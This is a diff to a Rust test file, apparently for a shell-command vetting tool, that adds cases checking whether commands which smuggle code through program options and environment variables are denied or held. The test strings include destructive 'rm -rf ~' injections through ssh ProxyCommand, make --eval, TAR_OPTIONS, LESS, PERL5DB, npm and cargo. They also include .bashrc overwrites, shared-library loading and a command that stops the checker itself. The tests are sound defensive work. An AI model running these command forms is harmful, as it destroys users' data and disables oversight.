@@ -2831,7 +2831,9 @@ fn removers_ask_about_a_target_they_cannot_place() {
     allow("unlink \"$F\"");
     allow("rm -f \"$F\"");
     allow("chmod +x \"$F\"");
-    allow("tar -cf /tmp/x.tar \"$D\"");
+    // `"$D"` unknown where tar reads options may be one (review s22 V3):
+    // after `--` it is an operand.
+    allow("tar -cf /tmp/x.tar -- \"$D\"");
 }
 
 /// review-s8 F3 (b): a directory outside the workspace that an earlier
@@ -7688,7 +7690,6 @@ fn s21_tmux2_w2_inert_forms() {
         "deny"
     );
 }
-
 // review s22 V1 (bash evaluates subscripts and arithmetic text, and the
 // values of variables read there: every such text must be proven to be
 // literal numbers, operators and variables set to such text here).
@@ -7833,4 +7834,247 @@ fn s22_v1_proven_arithmetic_allowed() {
 #[test]
 fn s22_v1_yaml_cases() {
     yaml_cases(include_str!("../cases-s22-arith.yaml"));
+}
+
+// review s22 V3 (options that run shell text or code, read by one table per
+// program: crate::progopts): each variant is judged as the command it runs
+// or held; the everyday forms of the same programs pass.
+#[test]
+fn s22_v3_option_tables() {
+    for cmd in [
+        "split --filter='rm -rf ~' README.md",
+        "split --filt='rm -rf ~' README.md",
+        "tar -c -L 10 -F 'rm -rf ~' -f x.tar .",
+        "tar --info-script='rm -rf ~' -cf x.tar .",
+        "tar --new-volume-script='rm -rf ~' -cf x.tar .",
+        "ssh -o KnownHostsCommand='rm -rf ~' example.com",
+        "ssh -o 'ProxyCommand rm -rf ~' host",
+        "ssh -o'ProxyCommand rm -rf ~' host",
+        "ssh -oProxyCommand='rm -rf ~' host",
+        "ssh host -o 'ProxyCommand rm -rf ~'",
+        "sftp -o 'ProxyCommand rm -rf ~' host",
+        "gawk --so='BEGIN{system(\"rm -rf ~\")}'",
+        "gawk --source='BEGIN{system(\"rm -rf ~\")}'",
+        "gawk -W source='BEGIN{system(\"rm -rf ~\")}'",
+        "php -B 'system(\"rm -rf ~\");' -R 1",
+        "php -R 'system(\"rm -rf ~\");'",
+        "php -E 'system(\"rm -rf ~\");'",
+        "strace -o '|rm -rf ~' true",
+        "RSYNC_CONNECT_PROG='rm -rf ~' rsync rsync://example.com/y .",
+    ] {
+        deny(cmd, "shell.rm-home");
+    }
+    assert_eq!(
+        s17_verdict("strace -o '!pkill -STOP -f toolvet' true").0,
+        "deny"
+    );
+    for cmd in [
+        "make -f /dev/null --eval='$(shell rm -rf ~)'",
+        "make -E 'x:=$(shell rm -rf ~)'",
+        "make --ev='$(shell rm -rf ~)'",
+        "make 'X:=$(shell rm -rf ~)'",
+        "make -f <(printf 'all:\\n\\trm -rf ~\\n')",
+        "ssh -o PKCS11Provider=/tmp/evil.so host",
+        "printf '!rm -rf ~\\n' > /tmp/b; sftp -b /tmp/b host",
+        "python3 -m timeit -n1 -r1 'import os; os.system(\"rm -rf ~\")'",
+        "python3 -m pdb -c '!import os; os.system(\"rm -rf ~\")' x.py",
+        "dc -e '!rm -rf ~'",
+        "echo '!rm -rf ~' | dc",
+        "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"rm -rf /home/alice\"' run",
+        "cargo --config ./x.toml build",
+        "gawk -l /tmp/x.so 'BEGIN{}'",
+        "tar --frobnicate -cf x.tar .",
+        "strace -o \"$LOG\" ls",
+        "tar -xf x.tar $O",
+        "tar -cf /tmp/x.tar \"$D\"",
+        "ssh \"$HOST\" uptime",
+        "make $T",
+        "gawk \"$P\" f",
+        "cat x.dc | dc",
+        "printf 'Host *\\n ProxyCommand rm -rf ~\\n' > /tmp/sc; ssh -F /tmp/sc host",
+    ] {
+        escalate(cmd, "shell.eval-dynamic");
+    }
+    // A configuration file written in the same call: held (also a guard
+    // rail of its own).
+    assert_eq!(
+        s17_verdict("mkdir -p .cargo; printf '[target.x86_64-unknown-linux-gnu]\\nrunner = \"rm -rf ~\"\\n' > .cargo/config.toml; cargo run").0,
+        "escalate"
+    );
+    assert_eq!(
+        s17_verdict("printf 'script-shell=/tmp/e\\n' > .npmrc; npm test").0,
+        "deny"
+    );
+    for cmd in [
+        "tar -czf out.tgz src",
+        "tar czf out.tgz src",
+        "tar tvf out.tgz",
+        "tar -xzf out.tgz -C build",
+        "tar --exclude=.git --checkpoint=1 --checkpoint-action=dot -czf out.tgz .",
+        "make -j4 test",
+        "make CFLAGS=-O2 all",
+        "make -C sub -f Makefile.dev all",
+        "ssh host uptime",
+        "ssh -p 2222 -J jump -o StrictHostKeyChecking=no host ls",
+        "ssh -F /dev/null host ls",
+        "scp a.txt host:/tmp/",
+        "python3 -m pytest -x tests",
+        "python3 -m http.server 8000",
+        "gawk '{print $1}' f",
+        "gawk -F: '{print $1}' /etc/passwd",
+        "sort -u f",
+        "sort -k2,2n -t, f",
+        "split -l 100 big.txt part-",
+        "strace -f -o trace.log ls",
+        "dc -e '2 3 + p'",
+        "php -r 'echo 1;'",
+        "cargo --config net.git-fetch-with-cli=true fetch",
+        "cargo build --release",
+        "dir=src; tar -czf out.tgz \"$dir\"",
+        "tar -czf \"$out\" src",
+        "sort -- \"$f\"",
+        "wget -nv https://example.com/x -e robots=off",
+        "tar --zstd -cf x.tar.zst .",
+        "tar -xjf x.tar.bz2",
+        "tar --strip-components=1 -xzf x.tgz",
+        "tar -C /tmp -xf x.tar",
+        "tar --sort=name --mtime=@0 --owner=0 --group=0 --numeric-owner -cf x.tar .",
+        "tar -cvf - . | gzip > x.tgz",
+        "tar -xf x.tar --wildcards '*.txt'",
+        "tar -I zstd -cf x.tar.zst .",
+        "tar --use-compress-program='zstd -T0' -cf x.tar.zst .",
+        "make -s -k",
+        "make --no-print-directory -C x",
+        "make -j$(nproc)",
+        "make -j \"$(nproc)\" all",
+        "ssh -tt host",
+        "ssh -L 8080:localhost:80 -N host",
+        "ssh -i key -o IdentitiesOnly=yes -o UserKnownHostsFile=/dev/null host",
+        "scp -r -P 2222 dir host:",
+        "sort -n -r -k 3 f | head",
+        "sort -V f",
+        "split -b 10M -d f part",
+        "wget --no-check-certificate https://example.com/x",
+        "wget -r -np -nH --cut-dirs=2 https://example.com/x/",
+        "gawk -v x=1 -f prog.awk f",
+        "gawk -i inplace '{print}' f",
+        "strace -e trace=open -o /tmp/t.log ls",
+        "dc <<< '2 3 + p'",
+        "ls | sort | uniq -c | sort -rn",
+        "git log | less",
+        "LESS=-R git log",
+        "sftp host",
+        "ssh host 'tar -czf - dir' > out.tgz",
+        "tar -xzf - < x.tgz",
+        "find . -name '*.py' | sort",
+    ] {
+        allow(cmd);
+    }
+}
+
+// review s22 V4 (variables a program reads as its options, code, programs or
+// configuration: one table, crate::progopts::PROGRAM_VARIABLES).
+#[test]
+fn s22_v4_program_variables() {
+    for cmd in [
+        "TAR_OPTIONS='--to-command=rm\\ -rf\\ ~' tar -xf x.tar",
+        "export TAR_OPTIONS='--to-command=x'; tar -xf x.tar",
+        "env TAR_OPTIONS=--to-command=x tar -xf x.tar",
+        "ZIPOPT='-T -TT \"rm -rf ~\"' zip x.zip f",
+        "LESS='+!rm -rf ~' less README.md",
+        "PERL5DB='BEGIN{system(\"rm -rf ~\")}' perl -d -e 1",
+        "MAKEFLAGS='--eval=$$(shell pkill -STOP -f toolvet)' make",
+        "GNUMAKEFLAGS='--eval=x' make",
+        "export MAKEFLAGS='--eval=x'; make",
+        "wget -e output_document=/home/alice/.bashrc https://example.com/rc",
+        "wget --execute=use_askpass=/tmp/e https://example.com",
+        "printf 'output_document=/home/alice/.bashrc\\n' > /tmp/rc; WGETRC=/tmp/rc wget https://example.com/rc",
+        "mkdir -p /tmp/c; printf 'output=/home/alice/.bashrc\\n' > /tmp/c/.curlrc; CURL_HOME=/tmp/c curl https://example.com",
+        "mkdir -p /tmp/pp; printf 'import os\\n' > /tmp/pp/json.py; PYTHONPATH=/tmp/pp python3 -c 'import json'",
+        "GZIP='-S x' gzip f",
+        "XZ_OPT='--filters=x' xz f",
+        "printf 'output=/home/alice/.bashrc\\n' > /tmp/k; curl -K /tmp/k https://example.com",
+    ] {
+        escalate(cmd, "shell.eval-dynamic");
+    }
+    for cmd in [
+        "tar -xf x.tar",
+        "GZIP=-9 gzip f",
+        "XZ_OPT=-9e xz f",
+        "LESS=-FRX less README.md",
+        "MAKEFLAGS=-j4 make",
+        "PYTHONPATH=src python3 -m pytest",
+        "WGETRC=/etc/wgetrc wget https://example.com/rc",
+        "HOME=/tmp/h ls",
+        "TAR_OPTIONS= tar -xf x.tar",
+        "curl -K ci/curlrc https://example.com",
+        "ENV=production npm start",
+    ] {
+        allow(cmd);
+    }
+}
+
+// review s22 W1 (options and variables naming a program are judged as that
+// program run: a script written in the same command is read).
+#[test]
+fn s22_w1_program_options() {
+    let e = "printf '#!/bin/sh\\nrm -rf ~\\n' > /tmp/e; chmod +x /tmp/e; ";
+    for tail in [
+        "sort --compress-program=/tmp/e -S 1K x.txt",
+        "sort --compress-prog=/tmp/e f",
+        "scp -S /tmp/e a b:c",
+        "wget --use-askpass=/tmp/e https://example.com",
+        "RUSTC_WRAPPER=/tmp/e cargo build",
+        "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=/tmp/e cargo run",
+        "npm --script-shell=/tmp/e run x",
+        "npm_config_script_shell=/tmp/e npm test",
+    ] {
+        deny(&format!("{e}{tail}"), "shell.rm-home");
+    }
+    escalate(
+        &format!("{e}cargo --config 'build.rustc-wrapper=\"/tmp/e\"' build"),
+        "shell.eval-dynamic",
+    );
+    escalate("enable -f /tmp/evil.so x", "shell.eval-dynamic");
+    escalate(
+        "ssh -o PKCS11Provider=/tmp/evil.so host",
+        "shell.eval-dynamic",
+    );
+    for cmd in [
+        "RUSTC_WRAPPER=sccache cargo build",
+        "npm test",
+        "npm install --global typescript",
+        "npm i --save-dev eslint",
+        "enable -n echo",
+        "sort -S 1K --compress-program=gzip f",
+    ] {
+        allow(cmd);
+    }
+}
+
+// review s22 V7 (PowerShell text is not read: any call that may run text
+// is held; a denied shell command in its words is still denied).
+#[test]
+fn s22_v7_powershell_held() {
+    deny("pwsh -c 'bash -c \"rm -rf ~\"'", "shell.rm-home");
+    deny("echo 'rm -rf ~' | pwsh", "shell.rm-home");
+    for cmd in [
+        "pwsh -c 'Remove-Item -Recurse -Force ~'",
+        "pwsh -EncodedCommand AAAA",
+        "powershell -Command 'Stop-Process -Name toolvet'",
+        "powershell.exe -Command 'Get-ChildItem'",
+        "pwsh -File x.ps1",
+        "pwsh -c 'Get-ChildItem'",
+        "pwsh",
+    ] {
+        escalate(cmd, "shell.eval-dynamic");
+    }
+    allow("pwsh -Version");
+    allow("pwsh --help");
+}
+
+/// review s22 opts: every case of `cases-s22-opts.yaml`.
+#[test]
+fn s22_opts_yaml_cases() {
+    yaml_cases(include_str!("../cases-s22-opts.yaml"));
 }
